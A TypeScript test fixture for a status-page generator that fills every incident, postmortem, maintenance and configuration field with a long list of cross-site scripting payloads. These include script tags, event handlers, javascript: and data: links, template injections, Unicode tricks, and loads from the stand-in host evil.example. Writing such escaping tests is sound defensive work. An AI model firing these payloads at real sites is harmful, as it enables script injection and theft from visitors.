import type { SiteConfigInput } from '../../src/schema/site-config.ts';
import { tinyPicture } from './complete.ts';
import { document, type SiteFiles } from './site-files.ts';

/*
 * A site on which every text field of every record and of the configuration holds every attack. Where an
 * attack gets through, it sets `__pwned`, opens a dialog, asks another host for something, or changes the
 * page around it.
 */

const hit = '__pwned=1';
const script = `<script>${hit}</script>`;

export const attacks: readonly string[] = [
  // Scripts, and ways out of what surrounds the text
  script,
  `<ScRiPt>${hit}</sCrIpT>`,
  `<script/x>${hit}</script\n>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${hit}</script>`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `</title>${script}`,
  `</style>${script}`,
  `</textarea>${script}`,
  `</code></pre>${script}`,
  `--><!-- -->${script}<!--`,
  `]]>${script}<![CDATA[`,
  `">${script}`,
  `'>${script}`,
  `\`>${script}`,
  `"><img src="x.gif" onload="${hit}">`,
  `" onmouseover="${hit}" x="`,
  `' autofocus onfocus='${hit}' x='`,
  `<template>${script}</template>`,
  `<noscript><p title="</noscript>${script}">`,
  // Handlers
  `<img src="x.gif" onload="${hit}" onerror="alert(1)">`,
  `<img src=x.gif srcset=//evil.example/x.png>`,
  `<img/src="x.gif"/onload=${hit}>`,
  `<body onload=${hit}>`,
  `<p onclick="${hit}" onpointerenter="${hit}">x</p>`,
  `<details open ontoggle=${hit}><summary>x</summary></details>`,
  `<xss autofocus tabindex=1 onfocus=${hit}>x</xss>`,
  `<marquee onstart=${hit}>x</marquee>`,
  `<video autoplay src=//evil.example/v onerror=${hit}></video>`,
  `<audio autoplay onerror=${hit}><source src=//evil.example/a></audio>`,
  `<p style="animation:x" onanimationstart=${hit}>x</p>`,
  // Other languages within HTML
  `<svg onload=${hit}>`,
  `<svg>${script}</svg>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${hit}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg/onload=${hit}>"></svg>`,
  `<svg><style><img src="x.gif" onload=${hit}></style>`,
  `<math><mi xlink:href="javascript:${hit}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style>${script}`,
  // Frames, forms and what else loads or sends
  `<iframe src="javascript:parent.${hit}"></iframe>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<frameset><frame src="javascript:${hit}"></frameset>`,
  `<object data="javascript:${hit}"></object>`,
  `<embed src="//evil.example/x.swf">`,
  `<applet code=x archive=//evil.example/x>x</applet>`,
  `<form action=//evil.example/><input name=q autofocus></form>`,
  `<button formaction="javascript:${hit}">Go</button>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import url(//evil.example/x.css);</style>`,
  `<style>body{display:none}</style>`,
  `<b style="background:url(//evil.example/x.png)">x</b>`,
  `<picture><source srcset=//evil.example/x.png></picture>`,
  `<a href="https://harbour.example" ping=//evil.example>x</a>`,
  // Links
  `<a href="javascript:${hit}">x</a>`,
  `<a href=JaVaScRiPt:${hit}>x</a>`,
  `<a href=" javascript:${hit}">x</a>`,
  `<a href="java\tscript:${hit}">x</a>`,
  `<a href="java&#x0A;script:${hit}">x</a>`,
  `<a href="&#106;avascript&colon;${hit}">x</a>`,
  `<a href="\u0001javascript:${hit}">x</a>`,
  `<a href="data:text/html,${script}">x</a>`,
  `<a href="vbscript:${hit}">x</a>`,
  `<a href="blob:https://x/y">x</a>`,
  `[x](javascript:${hit})`,
  `[x](JAVASCRIPT:${hit})`,
  `[x](java&#115;cript:${hit})`,
  `[x](<java\tscript:${hit}>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x][y]\n\n[y]: javascript:${hit}`,
  `[x](https://harbour.example/"onclick="${hit})`,
  `[x](https://harbour.example 'a" onclick="${hit}')`,
  `![x](javascript:${hit})`,
  `<javascript:${hit}>`,
  // Markdown's own corners
  `\`\`\`x" onclick="${hit}\ncode\n\`\`\``,
  `x[^"${hit}]\n\n[^"${hit}]: ${script}`,
  `| ${script} |\n|---|\n| " onclick=${hit} |`,
  // Changing or swallowing the page
  `<p id=content class=state name=body>x</p>`,
  `</main></body></html>`,
  `</div></section></article></dl>`,
  `<b><i><u><table><td>unclosed`,
  `<!--`,
  `<a href="https://harbour.example/`,
  `<plaintext>`,
  `<xmp>`,
  `<!DOCTYPE x [<!ENTITY y "z">]>&y;`,
  // Templates
  `{{constructor.constructor('${hit}')()}}`,
  `\${${hit}} #{${hit}}`,
  `{alert(1)} {globalThis.${hit}}`,
  `<Fragment set:html={"${script}"} />`,
  `<%= ${hit} %> <?php echo 1 ?>`,
  `__proto__ constructor $& $1 $\``,
  // Spellings that decode to something else
  `&lt;script&gt;${hit}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;`,
  `%3Cscript%3E${hit}%3C/script%3E`,
  `\\u003cscript\\u003e${hit}`,
  `\uff1cscript\uff1e${hit}`,
  `\u202egnp.exe\u202c \u2066x\u2069`,
  `a\u0001b\u000bc\u001bd\u007fe\ufffef`,
  `a\u0000b`,
  `a\u2028b\u2029c\u0085d`,
  `\u{1f6a8}\u{e0041} Z\u0351\u036b\u0343`,
  'x'.repeat(80),
];

/** An attack as a title may hold it: one line, without control characters. */
export function asTitle(attack: string): string {
  return attack.replaceAll(/\p{Cc}+/gu, ' ');
}

const manyWords = `${'word '.repeat(4000)}${'x'.repeat(4000)}`;

const now = '2026-03-14T12:00:00Z';
const components = attacks.map((attack, index) => ({
  id: `part-${index}`,
  name: attack.slice(0, 80),
  description: `${attack} ${attack}`.slice(0, 200),
}));

const logo = `"onload="${hit}"x="<script>.svg`;

const config: SiteConfigInput = {
  name: `</title>${script}"'><img src=x onerror=${hit}>`,
  url: 'https://harbour-status.example',
  services: ['harbour.example'],
  description: `"'></title>${script}<img src=x onerror=${hit}>{{7*7}}\${7*7}{alert(1)}`,
  components: [
    { id: 'group', name: `"'>${script}</h2>`, description: script, components },
    { id: 'alone', name: `<img src=x.gif onload=${hit}>` },
  ],
  brand: {
    logo: `/${logo}`,
    accent: '#1b4fa0',
    accentDark: '#8db4ff',
  },
  support: {
    url: `https://harbour.example/"onclick="${hit}"><script>${hit}</script>`,
    mail: 'support@harbour.example',
  },
  upstreams: [{ id: 'carrier', name: `"'>${script}</dd>`, url: 'https://carrier.example' }],
  repository: `https://git.example/"onclick="${hit}"><script>${hit}</script>`,
};

function id(index: number, slug: string): string {
  const day = new Date(Date.UTC(2025, 11, 1 + (index % 90)));
  return `${day.toISOString().slice(0, 10)}-${slug}-${index}`;
}

function resolvedIncident(attack: string, index: number): string {
  const date = id(index, '').slice(0, 10);
  return document(
    {
      title: asTitle(attack),
      impact: [
        {
          component: `part-${index}`,
          level: 'partial_outage',
          from: `${date}T08:00:00Z`,
          to: `${date}T08:30:00Z`,
        },
      ],
      updates: [
        { at: `${date}T08:05:00Z`, status: 'investigating', text: attack },
        { at: `${date}T09:00:00Z`, status: 'resolved', text: `${attack}\n\n${attack}` },
      ],
      detectedBy: 'customer',
      affected: { count: 1, of: attack, regions: [attack, attack] },
      dataLoss: 'partial',
      dataLossNote: attack,
      customerAction: attack,
      workaround: attack,
      trigger: 'dependency',
      upstream: 'carrier',
      corrections: [{ at: `${date}T10:00:00Z`, text: attack }],
    },
    attack,
  );
}

function postmortem(attack: string, index: number): string {
  const date = id(index, '').slice(0, 10);
  const address = `https://harbour.example/${attack.replaceAll(/\s/g, '')}`;
  return document(
    {
      status: 'published',
      publishedAt: `${date}T20:00:00Z`,
      summary: attack,
      authors: [attack, attack],
      timeline: [
        { at: `${date}T07:00:00Z`, kind: 'change', text: attack },
        {
          at: `${date}T07:30:00Z`,
          kind: 'page',
          text: attack,
          evidence: `https://harbour.example/"onclick="${hit}"`,
        },
      ],
      trigger: attack,
      detection: { by: 'customer', text: attack },
      contributingFactors: [
        { title: attack, text: attack },
        { title: attack, text: attack },
      ],
      wentWell: [attack],
      wentPoorly: [attack],
      lucky: [attack],
      lessons: [attack],
      openQuestions: [attack],
      actions: [
        {
          title: attack,
          type: 'prevent',
          owner: attack,
          status: 'open',
          due: '2027-01-01',
          tracking: attack,
        },
        {
          title: `${attack} again`,
          type: 'detect',
          owner: attack,
          status: 'declined',
          reason: attack,
          tracking: address,
        },
      ],
    },
    attack,
  );
}

/** Open, so that it stands on the home page. */
function openIncident(attack: string, index: number): string {
  return document({
    title: asTitle(attack),
    impact: [
      { component: `part-${index}`, level: 'degraded_performance', from: '2026-03-14T10:00:00Z' },
    ],
    updates: [
      {
        at: '2026-03-14T11:50:00Z',
        status: 'investigating',
        text: attack,
        nextUpdateBy: '2026-03-14T12:30:00Z',
      },
    ],
    customerAction: attack,
    workaround: attack,
    postmortem: { none: attack },
  });
}

/** Still to come, so that it stands on the home page. */
function comingMaintenance(attack: string, index: number): string {
  return document(
    {
      title: asTitle(attack),
      window: { from: '2026-03-20T02:00:00Z', to: '2026-03-20T04:00:00Z' },
      impact: [{ component: `part-${index}`, level: 'partial_outage' }],
      expect: attack,
      customerAction: attack,
      updates: [{ at: '2026-03-12T09:00:00Z', status: 'scheduled', text: attack }],
      corrections: [{ at: '2026-03-13T09:00:00Z', text: attack }],
    },
    attack,
  );
}

const longRecord = document(
  {
    title: 'x'.repeat(120),
    impact: [
      {
        component: 'alone',
        level: 'major_outage',
        from: '2026-03-01T08:00:00Z',
        to: '2026-03-01T09:00:00Z',
      },
    ],
    updates: [
      { at: '2026-03-01T08:05:00Z', status: 'investigating', text: manyWords },
      { at: '2026-03-01T09:00:00Z', status: 'resolved', text: manyWords },
    ],
    affected: { of: 'x'.repeat(500), regions: ['x'.repeat(500)] },
    dataLoss: 'none',
    customerAction: manyWords,
    workaround: manyWords,
  },
  manyWords,
);

export const hostile: SiteFiles = {
  now,
  config,
  files: {
    ...Object.fromEntries(
      attacks.flatMap((attack, index) => {
        const over = `incidents/${id(index, 'over')}`;
        const open = `incidents/2026-03-14-open-${index}`;
        const coming = `incidents/2026-03-20-coming-${index}`;
        return [
          [`${over}/incident.md`, resolvedIncident(attack, index)],
          [`${over}/postmortem.md`, postmortem(attack, index)],
          [`${open}/incident.md`, openIncident(attack, index)],
          [`${coming}/maintenance.md`, comingMaintenance(attack, index)],
          ...[over, open, coming].map((folder) => [`${folder}/x.gif`, tinyPicture]),
        ];
      }),
    ),
    [`public/${logo}`]: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" />',
    'public/favicon.svg': '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" />',
    'incidents/2026-03-01-long/incident.md': longRecord,
  },
};
